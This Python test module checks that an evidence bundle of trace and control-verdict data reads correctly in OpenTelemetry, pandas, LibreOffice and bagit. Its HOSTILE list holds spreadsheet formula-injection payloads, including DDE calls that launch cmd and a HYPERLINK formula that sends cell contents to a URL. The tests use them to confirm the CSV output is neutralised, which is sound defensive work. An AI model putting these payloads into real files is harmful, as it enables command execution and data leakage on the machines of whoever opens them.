"""The payload is read as its readers do: by OpenTelemetry's messages, by pandas, LibreOffice and bagit."""

import base64
import io
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import orjson
import pandas as pd
import pytest
from google.protobuf.json_format import ParseDict
from opentelemetry.proto.trace.v1.trace_pb2 import TracesData

from functions.evidence.controls.verdicts import Basis, Control, Result, RunVerdicts, Verdict, encode_controls
from functions.evidence.packing.bundle import CONTROLS, TABLE, TOP, TRACES
from functions.evidence.packing.otlp import encode_traces
from functions.evidence.packing.table import COLUMNS, encode_table
from functions.traces.model import TraceRow
from tests.unit.evidence.material import AGENT, NOON, OTHER, REQUEST, TOOL, TRACE, row
from tests.unit.evidence.sound import files_of, sound_bundle

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://example.com/?q="&A1,"see")',
    "%0A-3+3+cmd|' /C calc'!A0",
    "harmless;=1+1",
    'harmless;"=1+1"',
    "harmless;\t+1+1",
    "harmless\t=1+1",
    "harmless\n=1+1",
    "harmless\r\n=1+1",
)
"""What opens a formula in one spreadsheet or another, also where cells are separated by semicolons."""

ROWS: Sequence[TraceRow] = (
    row("AppRequests", span_id=REQUEST),
    row(span_id=AGENT, parent_id=REQUEST),
    row(span_id=TOOL, parent_id=AGENT, trace_id=OTHER),
    row("AppTraces", parent_id=AGENT),
    row("AppEvents", trace_id=OTHER, parent_id=TOOL),
)
SORTED = sorted(ROWS, key=lambda one: one.trace_id)


def hostile_rows() -> list[TraceRow]:
    return [
        row(
            columns={"AppRoleName": text, "AppVersion": text, "ResultCode": text},
            properties={
                "gen_ai.operation.name": text,
                "gen_ai.agent.name": text,
                "gen_ai.tool.name": text,
                "gen_ai.request.model": text,
                "gen_ai.usage.input_tokens": text,
                text: text,
            },
        )
        for text in HOSTILE
    ]


def hostile_controls() -> bytes:
    runs = [
        RunVerdicts(
            trace_id=TRACE,
            run_id=AGENT,
            time=NOON,
            agent=text,
            release=text,
            configuration="",
            basis=Basis.UNKNOWN,
            verdicts=(Verdict(Control.LATENCY, Result.FAIL, text),),
            notes=(text,),
        )
        for text in HOSTILE
    ]
    return b"".join(encode_controls(runs))


def hex_ids_as_base64(value: Any) -> Any:
    """OTLP/JSON has ids in hex; protobuf's own JSON has all bytes in base64, and would not complain."""
    if isinstance(value, list):
        return [hex_ids_as_base64(item) for item in value]
    if not isinstance(value, dict):
        return value
    return {
        name: base64.b64encode(bytes.fromhex(item)).decode()
        if name in {"traceId", "spanId", "parentSpanId"}
        else hex_ids_as_base64(item)
        for name, item in value.items()
    }


def test_opentelemetry_reads_as_many_spans_and_events_as_the_table_has_lines() -> None:
    lines = encode_traces(SORTED).data.splitlines()
    spans = [
        span
        for line in lines
        for resource in ParseDict(hex_ids_as_base64(orjson.loads(line)), TracesData()).resource_spans
        for scope in resource.scope_spans
        for span in scope.spans
    ]
    assert {len(span.trace_id) for span in spans} == {16}
    assert {len(span.span_id) for span in spans} == {8}
    assert {len(span.parent_span_id) for span in spans} == {0, 8}
    table = pd.read_csv(io.BytesIO(encode_table(SORTED)))
    in_table = table["table"].isin(["AppRequests", "AppDependencies"])
    assert (len(spans), sum(len(span.events) for span in spans)) == (in_table.sum(), (~in_table).sum())
    assert {span.trace_id.hex() for span in spans} == set(table["trace_id"]) == {TRACE, OTHER}
    assert len(lines) == 2


def test_a_bundles_own_files_are_read_alike() -> None:
    files = files_of(sound_bundle())
    (line,) = files[TRACES].splitlines()
    parsed = ParseDict(hex_ids_as_base64(orjson.loads(line)), TracesData())
    spans = parsed.resource_spans[0].scope_spans[0].spans
    table = pd.read_csv(io.BytesIO(files[TABLE]))
    assert len(spans) + sum(len(span.events) for span in spans) == len(table) == 4
    controls = pd.read_csv(io.BytesIO(files[CONTROLS]))
    assert controls["result"].value_counts().to_dict() == {"pass": 6, "fail": 1}


def test_pandas_reads_every_hostile_cell_as_text_in_its_own_column() -> None:
    table = pd.read_csv(io.BytesIO(encode_table(hostile_rows())), dtype=str, keep_default_na=False)
    assert tuple(table.columns) == COLUMNS
    assert len(table) == len(HOSTILE)
    for column in ("service", "release", "agent", "tool", "model", "result_code", "operation"):
        for text, cell in zip(HOSTILE, table[column], strict=True):
            assert cell.replace("'", "") == text.replace("'", "")
            assert not re.match(r"\s*[=+\-@|%\t\r\n\uff1d]", cell)
    for text, cell in zip(HOSTILE, table["attributes"], strict=True):
        assert text.replace("'", "") in {key.replace("'", "") for key in orjson.loads(cell)}


def formulas(data: bytes, separator: str, folder: Path) -> tuple[int, int]:
    """Open a CSV file in LibreOffice, which may evaluate formulas; return its rows and its formulas."""
    (folder / "table.csv").write_bytes(data)
    profile = (folder / "profile").as_uri()
    options = f"CSV:{ord(separator)},34,76,1,,1033,false,true,false,false,false,-1,true,true,true"
    call = ["soffice", "--headless", f"-env:UserInstallation={profile}", f"--infilter={options}"]
    call += ["--convert-to", "fods", "--outdir", str(folder), str(folder / "table.csv")]
    subprocess.run(call, check=True, capture_output=True, timeout=120)
    tree = ET.parse(folder / "table.fods")
    space = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    cells = list(tree.iter(f"{space}table-cell"))
    return len(list(tree.iter(f"{space}table-row"))), sum(f"{space}formula" in cell.attrib for cell in cells)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed here")
def test_libreoffice_opens_the_tables_and_no_formula_fires(tmp_path: Path) -> None:
    unguarded = "\r\n".join(('"' + text.replace('"', '""') + '"') for text in HOSTILE).encode()
    assert formulas(unguarded, ",", tmp_path)[1] >= 4, "the measurement sees formulas"
    assert formulas(unguarded, ";", tmp_path)[1] >= 4
    for data in (encode_table(hostile_rows()), hostile_controls()):
        rows, fired = formulas(data, ",", tmp_path)
        assert (rows, fired) == (len(HOSTILE) + 1, 0)
        assert formulas(data, ";", tmp_path)[1] == 0
        assert formulas(data, "\t", tmp_path)[1] == 0


def test_bagit_finds_the_bag_valid_and_its_own_tool_says_so(tmp_path: Path) -> None:
    for profile, files in (("metadata", 8), ("content", 9)):
        with zipfile.ZipFile(io.BytesIO(sound_bundle(profile))) as archive:
            archive.extractall(tmp_path / profile)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)  # bagit 1.9 calls re.sub in the old way
            import bagit

            bag = bagit.Bag(str(tmp_path / profile / TOP))
            assert bag.validate()
        assert bag.info["Payload-Oxum"].endswith(f".{files}")
        tool = [sys.executable, "-W", "ignore::DeprecationWarning", "-m", "bagit", "--validate", "."]
        subprocess.run(tool, cwd=tmp_path / profile / TOP, check=True, capture_output=True)
